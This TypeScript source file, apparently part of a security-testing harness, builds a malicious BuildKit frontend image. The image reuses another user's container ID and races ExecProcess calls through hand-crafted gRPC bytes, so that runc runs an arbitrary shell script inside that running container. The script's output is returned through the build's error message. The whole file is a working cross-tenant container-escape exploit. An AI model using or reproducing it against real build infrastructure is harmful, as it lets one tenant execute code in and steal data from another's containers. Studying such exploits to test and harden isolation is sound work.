import { createHash } from 'node:crypto';
import {
  bridgeSolveRequest,
  execMessage,
  newContainerRequest,
  returnRequest,
} from '../../../shared/policy/buildkit-messages.ts';
import { op } from '../../../shared/policy/llb-messages.ts';
import { encoded } from '../../../shared/policy/protobuf-plain.ts';
import { archive } from '../attempt.ts';
import { callBytes, connectionPreface } from './grpc-bytes.ts';

/**
 * A frontend image that gives a container in its build the id of another user's. The first process that it
 * requests there can't be created, since the container exists already. While BuildKit detects that, it takes
 * the id for a running one, and has runc run further processes in it.
 */

const bridge = '/moby.buildkit.v1.frontend.LLBBridge';
/** Results of builds have names of this length. */
const resultName = 'r'.repeat(25);
/** The error with which the build fails. */
const lastOutput = 's'.repeat(12_000);
/** The first of them is not an exec; the timing of the others depends on the machine. */
const processes = 8;

/**
 * The frontend's build context, as an archive: it runs `script` in `containerId`; the build fails with the
 * result.
 */
export function execFrontendContext(containerId: string, script: string): Buffer {
  const before = Buffer.concat([connectionPreface(), callBytes(1, `${bridge}/Solve`, busybox())]);
  const container = { ContainerID: containerId, Mounts: [{ dest: '/', resultID: resultName }] };
  const made = around(
    resultName,
    callBytes(3, `${bridge}/NewContainer`, encoded(newContainerRequest, container)),
  );
  const Meta = { args: ['/bin/sh', '-c', script], env: ['PATH=/bin'], cwd: '/' };
  const execCalls = Array.from({ length: processes }, (_, i) => {
    const init = { ProcessID: `p${i}`, Init: { ContainerID: containerId, Meta, Fds: [1, 2] } };
    return callBytes(7 + 2 * i, `${bridge}/ExecProcess`, encoded(execMessage, init), 'left open');
  });
  const failure = { error: { code: 2, message: lastOutput } };
  const end = around(lastOutput, callBytes(101, `${bridge}/Return`, encoded(returnRequest, failure)));
  const files: Readonly<Record<string, Buffer>> = {
    before,
    'made.0': made[0],
    'made.1': made[1],
    request: Buffer.concat(execCalls),
    'end.0': end[0],
    'end.1': end[1],
  };
  const program = [
    'base64 -d /before',
    'timeout 4 cat > /answer',
    'ref=$(tr -c a-z0-9 "\\n" < /answer | grep -x ".\\{25\\}" | head -n 1)',
    'base64 -d /made.0; printf %s "$ref"; base64 -d /made.1',
    // Until the container exists: its processes are requested at once.
    'sleep 1; base64 -d /request',
    'timeout 6 cat > /response',
    `output=$(tr -c "\\040-\\176" " " < /response | tr -s " " | head -c ${lastOutput.length})`,
    `base64 -d /end.0; printf %-${lastOutput.length}s "$output"; base64 -d /end.1`,
    'timeout 2 cat > /dev/null',
  ].join('\n');
  const copies = Object.keys(files)
    .map((name) => `COPY ${name} /${name}\n`)
    .join('');
  return archive({
    ...Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, bytes.toString('base64')])),
    program,
    Dockerfile: `FROM busybox\n${copies}COPY program /program\nENTRYPOINT ["sh", "/program"]\n`,
  });
}

/** The bytes before and after a text. */
function around(text: string, bytes: Buffer): readonly [Buffer, Buffer] {
  const at = bytes.indexOf(text);
  return [bytes.subarray(0, at), bytes.subarray(at + text.length)];
}

function busybox(): Uint8Array {
  const attrs = { 'image.resolvemode': 'local' };
  const image = encoded(op, {
    source: { identifier: 'docker-image://docker.io/library/busybox:latest', attrs },
  });
  const digest = `sha256:${createHash('sha256').update(image).digest('hex')}`;
  return encoded(bridgeSolveRequest, {
    Definition: { def: [image, encoded(op, { inputs: [{ digest }] })] },
    allowResultReturn: true,
    allowResultArrayRef: true,
    Evaluate: true,
  });
}
